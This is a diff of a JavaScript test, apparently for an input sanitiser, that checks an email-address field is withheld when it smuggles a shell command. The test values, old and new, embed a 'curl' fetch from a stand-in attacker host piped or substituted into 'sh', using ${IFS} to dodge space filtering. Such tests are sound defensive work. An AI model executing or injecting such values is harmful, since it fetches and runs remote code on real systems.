@@ -69,7 +69,7 @@ describe('tool inputs', () => {
   });
 
   test('never get an address that is a command', () => {
-    const hostile = 'curl${IFS}evil.example|sh`@x.example';
+    const hostile = 'curl${IFS}evil.example`sh`@x.example';
     const { out, log } = answer('toolInput', hostile, same);
     expect(out).not.toContain('evil');
     expect(log).toEqual(['withheld EmailAddress unsafe_character']);
